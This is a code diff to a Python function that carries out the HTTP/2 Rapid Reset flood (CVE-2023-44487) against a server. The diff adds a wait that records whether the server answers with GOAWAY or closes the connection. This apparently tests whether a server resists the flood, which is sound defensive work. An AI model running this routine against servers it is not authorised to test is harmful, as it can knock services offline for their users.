@@ -82,11 +82,13 @@ def rapid_reset(
     token: str | None = None,
     batch: int = 100,
     time_limit_s: float = 20.0,
+    linger_s: float = 0.0,
 ) -> RapidResetResult:
     """Open ``streams`` GetServerInfo calls on one HTTP/2 connection and reset
     each at once (CVE-2023-44487), ``batch`` per write, reading only what is
     already there between writes. Stops early when the server closes the
-    connection or sends GOAWAY.
+    connection or sends GOAWAY; after the last stream, waits up to
+    ``linger_s`` for the server to do so.
     """
     host, port = split_address(address)
     conn = h2.connection.H2Connection(
@@ -137,4 +139,23 @@ def rapid_reset(
                 sock.settimeout(SOCKET_TIMEOUT_S)
             if goaway or closed:
                 break
+        linger_until = time.monotonic() + linger_s
+        while not (goaway or closed) and time.monotonic() < linger_until:
+            sock.settimeout(max(0.01, linger_until - time.monotonic()))
+            try:
+                data = sock.recv(65536)
+            except TimeoutError:
+                break
+            except (h2.exceptions.ProtocolError, OSError):
+                closed = True
+                break
+            if not data:
+                closed = True
+                break
+            try:
+                events = conn.receive_data(data)
+            except h2.exceptions.ProtocolError:
+                closed = True
+                break
+            goaway = any(isinstance(e, h2.events.ConnectionTerminated) for e in events)
     return RapidResetResult(sent, goaway, closed, time.monotonic() - start)
